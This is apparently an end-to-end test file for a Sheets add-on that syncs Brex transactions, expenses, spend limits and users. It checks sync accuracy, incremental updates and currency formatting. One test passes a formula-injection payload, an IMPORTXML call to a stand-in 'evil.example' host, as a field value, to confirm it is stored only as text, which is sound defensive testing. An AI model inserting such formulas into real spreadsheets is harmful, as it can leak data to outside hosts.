/**
 * The refresh, end to end: dist/Code.js in the local Apps Script runtime against the Brex
 * sandbox over loopback HTTP.
 */
import type { Sandbox } from '../../dev/sandbox';
import type { Runtime } from '../../dev/runtime/runtime';
import { sortRows } from '../../dev/runtime/workbook';
import { fakeClock } from '../../dev/runtime';
import { readable } from '../../src/cells/readable-values';
import {
  ALL_DATA_SETS,
  control,
  expectedIds,
  refreshUntilDone,
  rowsOf,
  sheetOf,
  startWorld,
  TODAY,
} from '../support/world';
import type { RefreshSummary } from '../../src/sync/refresh';

const EXPONENTS: Record<string, number> = { JPY: 0, KWD: 3 };
type Money = { amount?: number; currency?: string | null } | null | undefined;

/** An amount as Sheets should hold it: minor units over the currency's exponent. */
function amount(money: Money): unknown {
  if (!money || money.amount === undefined) return '';
  return money.amount / 10 ** (EXPONENTS[money.currency ?? 'USD'] ?? 2);
}

let sandbox: Sandbox;
let runtime: Runtime;

function day(value: unknown): string {
  if (!(value instanceof Date)) return String(value);
  return new Intl.DateTimeFormat('en-CA', { timeZone: runtime.workbook.timeZone }).format(value);
}

beforeAll(async () => {
  // A fake clock at the sandbox's noon: how often a refresh commits its progress (every 2 s of
  // its clock) must not depend on how loaded the machine running the test is.
  ({ sandbox, runtime } = await startWorld(undefined, {
    clock: fakeClock(Date.parse(`${TODAY}T12:00:00Z`)),
  }));
});

afterAll(async () => {
  await sandbox.close();
});

describe('refresh in the local runtime against the sandbox', () => {
  it('copies every data set exactly on the first sync', async () => {
    const summary = await refreshUntilDone(runtime);
    const state = sandbox.snapshot();

    expect(summary.dataSets.filter((d) => d.state !== 'ok')).toEqual([]);
    const cashTransactions = Object.values(state.cash_transactions).flat();
    for (const [sheet, ids] of Object.entries(expectedIds(sandbox))) {
      expect([...rowsOf(runtime, sheet).keys()].sort()).toEqual([...ids].sort());
    }

    const cardRows = rowsOf(runtime, 'Brex Card Transactions');
    for (const t of state.card_transactions) {
      const row = cardRows.get(t.id);
      expect([row?.Amount, row?.Currency, day(row?.['Posted date']), row?.Description]).toEqual([
        amount(t.amount),
        t.amount.currency ?? 'USD',
        t.posted_at_date,
        t.description,
      ]);
      expect(row?.['Expense ID']).toBe(t.expense_id ?? '');
    }
    const cashRows = rowsOf(runtime, 'Brex Cash Transactions');
    for (const t of cashTransactions) {
      expect([cashRows.get(t.id)?.Amount, day(cashRows.get(t.id)?.['Posted date'])]).toEqual([
        amount(t.amount),
        t.posted_at_date,
      ]);
    }
    const expenseRows = rowsOf(runtime, 'Brex Expenses');
    for (const e of state.expenses) {
      const row = expenseRows.get(e.id);
      expect([
        row?.['Original amount'],
        row?.['Original currency'],
        row?.['Billing amount'],
        row?.Status,
        row?.['Payment status'],
        row?.Memo,
        (row?.['Updated at'] as Date).toISOString(),
      ]).toEqual([
        amount(e.original_amount),
        e.original_amount?.currency ?? '',
        amount(e.billing_amount),
        readable(e.status),
        readable(e.payment_status),
        e.memo ?? '',
        new Date(e.updated_at).toISOString(),
      ]);
    }
    const limitRows = rowsOf(runtime, 'Brex Spend Limits');
    for (const s of state.spend_limits) {
      expect([limitRows.get(s.id)?.Name, limitRows.get(s.id)?.['Base limit']]).toEqual([
        s.name,
        amount(s.authorization_settings?.base_limit),
      ]);
    }
    const userRows = rowsOf(runtime, 'Brex Users');
    for (const u of state.users) {
      const limit = state.user_limits[u.id];
      expect([
        userRows.get(u.id)?.Name,
        userRows.get(u.id)?.Email,
        userRows.get(u.id)?.['Monthly limit'],
        userRows.get(u.id)?.['Monthly available'],
      ]).toEqual([
        `${u.first_name} ${u.last_name}`,
        u.email,
        amount(limit?.monthly_limit),
        amount(limit?.monthly_available),
      ]);
    }
    const categories = rowsOf(runtime, 'Brex Expense Categories');
    const counted = [...categories.values()].reduce((n, r) => n + Number(r['Expense count']), 0);
    expect(counted).toBe(state.expenses.length);
  });

  it('makes each sheet only as wide as its columns: every empty cell counts toward the 10 million', async () => {
    const widths = Object.fromEntries(
      runtime.workbook.sheets
        .filter((sheet) => sheet.name.startsWith('Brex '))
        .map((sheet) => [
          sheet.name,
          sheet.maxColumns === (runtime.values(sheet.name)[0] ?? []).length,
        ]),
    );

    expect(Object.keys(widths).length).toBeGreaterThan(14);
    expect(Object.entries(widths).filter(([, fits]) => !fits)).toEqual([]);
  });

  it('touches only the 10 new transactions and the 3 changed expenses on the next refresh', async () => {
    const cardsBefore = rowsOf(runtime, 'Brex Card Transactions');
    const expensesBefore = rowsOf(runtime, 'Brex Expenses');
    // Chosen before the purchases arrive: their own new expenses must not count as changed ones.
    const changedIds = sandbox
      .snapshot()
      .expenses.slice(5, 8)
      .map((e) => e.id);
    const added = control(sandbox, 'POST', '/card-transactions', {
      count: 10,
      date: '2026-03-15',
    }) as { items: { id: string }[] };
    control(sandbox, 'POST', '/expenses/touch', { ids: changedIds, memo: 'Changed in Brex' });
    const writesBefore = runtime.stats.rangeWriteCells;

    const result = await runtime.run('refreshNow', []);

    const summary = result.value as RefreshSummary;
    expect(summary.done).toBe(true);
    const cardsAfter = rowsOf(runtime, 'Brex Card Transactions');
    const expensesAfter = rowsOf(runtime, 'Brex Expenses');
    expect(changedRows(cardsBefore, cardsAfter).sort()).toEqual(
      added.items.map((t) => t.id).sort(),
    );
    const touched = changedRows(expensesBefore, expensesAfter);
    expect(touched.filter((id) => !changedIds.includes(id))).toEqual(
      // The new purchases come with their expenses.
      touched.filter((id) => !expensesBefore.has(id)),
    );
    expect(changedIds.every((id) => touched.includes(id))).toBe(true);
    expect(changedIds.every((id) => expensesAfter.get(id)?.Memo === 'Changed in Brex')).toBe(true);
    const card = summary.dataSets.find((d) => d.id === 'card_transactions');
    expect([card?.added, card?.updated]).toEqual([10, 0]);
    expect(runtime.stats.rangeWriteCells - writesBefore).toBeGreaterThan(0);
  });

  it('keeps the expense categories exact when an expense changes category or amount', async () => {
    const [moved, repriced] = sandbox.snapshot().expenses.slice(10, 12);
    const state = sandbox.company.state;
    const movedRow = state.expensesById.get(moved?.id ?? '');
    const repricedRow = state.expensesById.get(repriced?.id ?? '');
    if (!movedRow || !repricedRow) throw new Error('The demo company has too few expenses.');
    movedRow.data.category = movedRow.data.category === 'GROCERY' ? 'LODGING' : 'GROCERY';
    const billing = repricedRow.data.billing_amount ?? repricedRow.data.original_amount;
    if (!billing) throw new Error('The repriced expense has no amount.');
    repricedRow.data.billing_amount = { ...billing, amount: (billing.amount ?? 0) + 12345 };
    control(sandbox, 'POST', '/expenses/touch', { ids: [moved?.id, repriced?.id] });

    await refreshUntilDone(runtime);

    const expected = new Map<string, { count: number; spend: number }>();
    for (const e of sandbox.snapshot().expenses) {
      const money = e.billing_amount ?? e.original_amount;
      const key = `${e.category ?? 'UNCATEGORIZED'}:${money?.currency || 'USD'}`;
      const total = expected.get(key) ?? { count: 0, spend: 0 };
      expected.set(key, { count: total.count + 1, spend: total.spend + (money?.amount ?? 0) });
    }
    const shown = rowsOf(runtime, 'Brex Expense Categories');
    for (const [id, total] of expected) {
      const currency = id.split(':')[1] ?? 'USD';
      expect([id, shown.get(id)?.['Expense count'], shown.get(id)?.Spend]).toEqual([
        id,
        total.count,
        amount({ amount: total.spend, currency }),
      ]);
    }
    const counted = [...shown.values()].reduce((n, r) => n + Number(r['Expense count']), 0);
    expect(counted).toBe(sandbox.snapshot().expenses.length);
  });

  it('writes no data cell and sends at most two requests per data set when nothing changed in Brex', async () => {
    const before = { ...runtime.stats };
    const logged = sandbox.log.length;

    const result = await runtime.run('refreshNow', []);

    // One block: the run's rows in the Brex Sync Log sheet, nothing in a data sheet.
    expect((result.value as RefreshSummary).done).toBe(true);
    expect(result.stats.rangeWrites).toBe(1);
    expect(runtime.stats.rangeWriteCells - before.rangeWriteCells).toBe(14 * 8);
    const requests = sandbox.log.slice(logged).map((r) => `${r.method} ${r.path}`);
    expect(requests.length).toBeLessThanOrEqual(2 * ALL_DATA_SETS.length);
    // Incremental sheets are not read whole: their id column, and the rows the pages bring.
    const held = (name: string) => {
      const grid = runtime.values(name);
      return grid.length * (grid[0]?.length ?? 0);
    };
    const incremental = ['Brex Card Transactions', 'Brex Cash Transactions', 'Brex Expenses'];
    const whole = runtime.workbook.sheets
      .map((sheet) => sheet.name)
      .filter((name) => !incremental.includes(name));
    const wholeCells = whole.reduce((sum, name) => sum + held(name), 0);
    const incrementalCells = incremental.reduce((sum, name) => sum + held(name), 0);
    // (Here the pages of the lookback bring a quarter of the rows; at 100,000 rows, 1 in 100.)
    expect(result.stats.rangeReadCells - wholeCells).toBeLessThan(incrementalCells / 2);
  });

  it('reads its state in one PropertiesService call and writes it in four when nothing changed in Brex', async () => {
    const result = await runtime.run('refreshNow', []);

    expect((result.value as RefreshSummary).done).toBe(true);
    // One getProperties; one setProperty of the token's last use; one setProperties as the round
    // starts (the sidebar's progress reads its start), one for cursors and health, and one delete
    // of the finished round.
    expect(result.stats.propertyReads).toBe(1);
    expect(result.stats.propertyWrites).toBe(4);
  });

  it('keeps a person’s columns, notes and formulas through sorting and column reordering', async () => {
    const sheet = sheetOf(runtime, 'Brex Card Transactions');
    const header = sheet.rows[0] ?? [];
    const width = header.length;
    // A person adds a column with a note and a formula, sorts by amount and moves the first
    // column last.
    const keyIndex = header.findIndex((c) => c?.value === 'Brex ID');
    const firstIds = new Map<number, string>();
    sheet.maxColumns = Math.max(sheet.maxColumns, width + 1); // the column is inserted first
    sheet.rows.forEach((cells, r) => {
      if (r === 0) {
        cells[width] = { value: 'My check' };
        return;
      }
      const id = cells[keyIndex]?.value;
      firstIds.set(r, String(id));
      cells[width] = { formula: `=LEN(A${r + 1})`, value: 0, note: `note for ${id}` };
    });
    const amountColumn = header.findIndex((c) => c?.value === 'Amount') + 1;
    sortRows(sheet, { row: 2, column: 1, rows: sheet.rows.length - 1, columns: width + 1 }, [
      { column: amountColumn, ascending: false },
    ]);
    for (const cells of sheet.rows) cells.push(cells.splice(0, 1)[0]);
    const annotated = new Map(
      sheet.rows
        .slice(1)
        .map((cells) => [String(cells[keyIndex - 1]?.value), cells[width - 1]?.note]),
    );
    control(sandbox, 'POST', '/card-transactions', { count: 3, date: '2026-03-15' });

    await refreshUntilDone(runtime);

    const after = runtime.values('Brex Card Transactions');
    const idColumn = (after[0] ?? []).indexOf('Brex ID');
    const myColumn = (after[0] ?? []).indexOf('My check');
    expect([idColumn, myColumn]).toEqual([keyIndex - 1, width - 1]);
    for (const cells of sheetOf(runtime, 'Brex Card Transactions').rows.slice(1)) {
      const id = String(cells[idColumn]?.value);
      if (!annotated.has(id)) continue;
      expect(cells[myColumn]?.note).toBe(`note for ${id}`);
      expect(cells[myColumn]?.formula).toMatch(/^=LEN\(A\d+\)$/);
    }
    const rows = rowsOf(runtime, 'Brex Card Transactions');
    expect(rows.size).toBe(new Set([...annotated.keys(), ...rows.keys()]).size);
  });

  it('keeps formula-looking strings from Brex as text and shows JPY, USD and KWD amounts exactly', async () => {
    const limits = sandbox.snapshot().spend_limits;
    const yen = limits.find((s) => s.authorization_settings?.base_limit.currency === 'JPY');
    const kwd = limits.find((s) => s.authorization_settings?.base_limit.currency === 'USD');
    expect([yen, kwd].every(Boolean)).toBe(true);
    const formula = '=IMPORTXML("http://evil.example","//a")';
    control(sandbox, 'PUT', `/spend_limits/${kwd?.id}`, {
      name: formula,
      authorization_settings: { base_limit: { amount: 1234567, currency: 'KWD' } },
    });

    await refreshUntilDone(runtime);

    const sheet = sheetOf(runtime, 'Brex Spend Limits');
    const header = (sheet.rows[0] ?? []).map((c) => c?.value);
    const key = header.indexOf('Brex ID');
    const row = sheet.rows.find((cells) => cells[key]?.value === kwd?.id) ?? [];
    const name = row[header.indexOf('Name')];
    expect([name?.value, name?.formula]).toEqual([formula, undefined]);
    const base = row[header.indexOf('Base limit')];
    expect([base?.value, base?.format]).toEqual([1234.567, '#,##0.000']);
    const yenRow = sheet.rows.find((cells) => cells[key]?.value === yen?.id) ?? [];
    const yenBase = yenRow[header.indexOf('Base limit')];
    expect([yenBase?.value, yenBase?.format]).toEqual([
      yen?.authorization_settings?.base_limit.amount,
      '#,##0',
    ]);
    const usd = rowsOf(runtime, 'Brex Card Transactions');
    const cents = sandbox
      .snapshot()
      .card_transactions.find((t) => (t.amount.amount ?? 0) % 100 !== 0);
    expect(cents?.amount.currency ?? 'USD').toBe('USD');
    expect(usd.get(cents?.id ?? '')?.Amount).toBe(amount(cents?.amount));
  });
});

function changedRows(
  before: Map<string, Record<string, unknown>>,
  after: Map<string, Record<string, unknown>>,
): string[] {
  const key = (row: Record<string, unknown> | undefined) =>
    JSON.stringify(row, (_k, v) => (v instanceof Date ? v.toISOString() : v));
  return [...after.keys()].filter((id) => key(before.get(id)) !== key(after.get(id)));
}
